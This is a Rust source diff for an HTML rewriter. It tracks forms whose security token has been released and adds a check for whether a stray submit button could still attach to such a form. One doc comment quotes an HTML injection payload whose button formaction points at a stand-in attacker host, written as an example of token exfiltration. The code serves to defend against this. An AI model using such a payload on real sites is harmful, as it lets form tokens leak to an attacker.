@@ -80,6 +80,9 @@ pub(super) struct Forms {
     /// with the token whose `</form>` comes after it is held to the end even when cleanly
     /// closed. `None`: nowhere, or not known.
     reopened_after: Option<usize>,
+    /// A form closed and released with its token: a browser may still build later controls
+    /// into it ([`Self::stray_submitter_may_join_a_form_with_token`]).
+    released_with_token: bool,
 }
 
 impl Forms {
@@ -99,6 +102,7 @@ impl Forms {
             out_start: 0,
             max_hold,
             reopened_after: None,
+            released_with_token: false,
         }
     }
 
@@ -230,7 +234,23 @@ impl Forms {
         let done = !held.may_own_later_controls && held.id.is_none();
         if done {
             self.held.retain(|h| h.form != form);
+            self.released_with_token = true;
         }
+    }
+
+    /// Whether a submitter without a `form` attribute that sends its form elsewhere may belong
+    /// to a closed form that still has the token, once [`Self::submitter_sends_elsewhere`] took
+    /// it from every form it is known to reach: one released (its token is out) or one held
+    /// for its `id`. lol_html sees that form closed, but a tree builder can build later
+    /// elements into it: a formatting element made again inside it stays open after `</form>`
+    /// (`<form><p><b>x</p>y</form><button formaction=//evil.example/>`), and a stream is not
+    /// read ahead to hold such forms. With no form element pointer, a browser gives the
+    /// submitter to a form among its ancestors; with one, to the pointer's form (known here only
+    /// as [`Pointer::Set`]). Template contents are inert.
+    pub(super) fn stray_submitter_may_join_a_form_with_token(&self) -> bool {
+        (self.released_with_token || self.held.iter().any(|h| !h.open))
+            && !matches!(self.pointer, Pointer::Set(_))
+            && (!self.in_template() || self.templates_uncertain)
     }
 
     /// An element directly inside the innermost open form started; returns that form when
